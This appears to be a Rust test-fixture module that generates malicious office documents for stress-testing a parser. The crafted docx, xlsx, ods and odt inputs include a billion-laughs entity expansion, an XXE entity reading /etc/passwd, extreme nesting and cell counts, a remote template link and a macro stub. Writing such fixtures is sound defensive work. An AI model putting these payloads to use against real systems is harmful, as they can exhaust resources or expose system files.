//! Office documents that grow, nest or lie.

use super::pictures::png_of;
use super::{Bomb, bomb};
use crate::making::{docx, open_document, paragraph, xlsx, zipped};

#[expect(clippy::too_many_lines, reason = "one line for each kind")]
pub fn office() -> Vec<Bomb> {
    let laughs = {
        let mut entities = "<!ENTITY a0 \"ha\">".to_owned();
        for n in 1..30 {
            let last = n - 1;
            entities +=
                &format!("<!ENTITY a{n} \"&a{last};&a{last};&a{last};&a{last};&a{last};&a{last};&a{last};&a{last};\">");
        }
        format!("<?xml version=\"1.0\"?><!DOCTYPE d [{entities}]><d><p><r><t>&a29;</t></r></p></d>")
    };
    let outside = "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d><p><r><t>&x;</t></r></p></d>";
    let deep = format!("<d>{}{}</d>", "<p>".repeat(200_000), "</p>".repeat(200_000));
    let attributes: String = (0..200_000).map(|n| format!(" a{n}=\"x\"")).collect();
    let relations = b"<Relationships><Relationship Id=\"r1\" TargetMode=\"External\" Target=\"http://192.0.2.1/x.dotm\"/></Relationships>";
    let word = |document: &str| zipped(&[("word/document.xml", document.as_bytes())]);
    let claims = "<dimension ref=\"A1:XFD1048576\"/><sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c></row>\
                  <row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row></sheetData>";
    let columns = "<cols><col min=\"1\" max=\"4294967295\" hidden=\"1\"/></cols><sheetData/>";
    let rows: String =
        (1..200_000).map(|n| format!("<row r=\"{n}\" hidden=\"1\"><c r=\"A{n}\"><v>1</v></c></row>")).collect();
    let strings =
        format!("<sst>{}</sst>", "<si><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></si>".repeat(3_000_000));
    let one = "<sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>4294967295</v></c></row></sheetData>";
    let repeated = "<table:table table:name=\"x\"><table:table-row table:number-rows-repeated=\"1048576\">\
                    <table:table-cell table:number-columns-repeated=\"16384\"><text:p>ha</text:p></table:table-cell>\
                    </table:table-row></table:table>";
    let spaces = format!("<text:p>{}</text:p>", "<text:s text:c=\"4294967295\"/>".repeat(50_000));
    vec![
        bomb("docx: entities of entities", "a.docx", word(&laughs)),
        bomb("docx: an entity from outside", "a.docx", word(outside)),
        bomb("docx: elements 200,000 deep", "a.docx", word(&deep)),
        bomb("docx: 200,000 attributes", "a.docx", word(&format!("<d><p{attributes}/></d>"))),
        bomb("docx: 100 MB of text", "a.docx", docx(&paragraph(&"ha ".repeat(33 << 20)), &[])),
        bomb("docx: a million runs", "a.docx", docx(&"<w:p><w:r><w:t>a</w:t></w:r></w:p>".repeat(1_000_000), &[])),
        bomb("docx: links to outside", "a.docx", docx(&paragraph("x"), &[("word/_rels/document.xml.rels", relations)])),
        bomb("docx: a macro", "a.docm", docx(&paragraph("x"), &[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")])),
        bomb(
            "docx: a picture that is a bomb",
            "a.docx",
            docx(&paragraph("x"), &[("word/media/image1.png", &png_of(60_000, 60_000))]),
        ),
        bomb("docx: ends that do not belong", "a.docx", word("</w:p></w:r></w:tc></w:ins><w:p>x")),
        bomb("docx: not XML", "a.docx", word("\u{0}\u{1}<<<>>>&&&;;;")),
        bomb("docx: sixteen bits, cut in the middle", "a.docx", zipped(&[("word/document.xml", b"\xff\xfe<\0w")])),
        bomb(
            "docx: no main part",
            "a.docx",
            zipped(&[("word/document.xml/x", b"x"), ("[Content_Types].xml", b"wordprocessingml.document.main")]),
        ),
        bomb("xlsx: billions of cells claimed", "a.xlsx", xlsx(&[("x", "visible", claims)], &[])),
        bomb("xlsx: billions of columns hidden", "a.xlsx", xlsx(&[("x", "visible", columns)], &[])),
        bomb(
            "xlsx: 200,000 rows hidden",
            "a.xlsx",
            xlsx(&[("x", "visible", &format!("<sheetData>{rows}</sheetData>"))], &[]),
        ),
        bomb(
            "xlsx: shared strings of 150 MB",
            "a.xlsx",
            xlsx(&[("x", "visible", one)], &[("xl/sharedStrings.xml", strings.as_bytes())]),
        ),
        bomb("xlsx: a string that is not there", "a.xlsx", xlsx(&[("x", "visible", one)], &[])),
        bomb("xlsx: 5,000 sheets", "a.xlsx", xlsx(&vec![("x", "visible", "<sheetData/>"); 5_000], &[])),
        bomb("xlsx: entities of entities", "a.xlsx", zipped(&[("xl/workbook.xml", laughs.as_bytes())])),
        bomb("ods: a cell repeated 17 billion times", "a.ods", open_document("spreadsheet", "", repeated, &[])),
        bomb("odt: spaces without end", "a.odt", open_document("text", "", &spaces, &[])),
        bomb(
            "odt: entities of entities",
            "a.odt",
            zipped(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", laughs.as_bytes())]),
        ),
        bomb(
            "odt: elements 200,000 deep",
            "a.odt",
            zipped(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", deep.as_bytes())]),
        ),
    ]
}
